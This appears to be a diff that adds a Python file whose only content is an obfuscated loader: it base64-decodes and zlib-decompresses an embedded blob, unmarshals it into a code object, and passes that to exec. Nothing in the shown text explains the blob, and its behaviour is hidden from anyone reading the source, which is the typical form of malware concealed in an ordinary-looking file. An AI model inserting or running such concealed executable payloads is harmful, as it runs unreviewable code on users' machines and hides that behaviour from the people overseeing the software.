@@ -1,0 +1,3 @@
+import marshal, zlib, base64
+exec(marshal.loads(zlib.decompress(base64.b64decode(
+    b"eJxLZkACrFD6swOQmM6QwpDCmMMQxcDEkMqYwgQkGbKYYEqXAfFquMZlQPHVcDlGoL5gBk3mlyCOXxV3aV5BYnJ2aopCfp4m8y2OgpzEkrT8otxbrAVFmXklt9iKK4tLUnNXMnwGqf/FbJNr94vDJjc/pTQn1a6IA2wgA0OxAZD4wMzIyHiDgb8BDG8wsDawNuROiJ8QMSX+oqjaFVG1iwzqVxjUL8BQERtQEwD9BzKk"))))
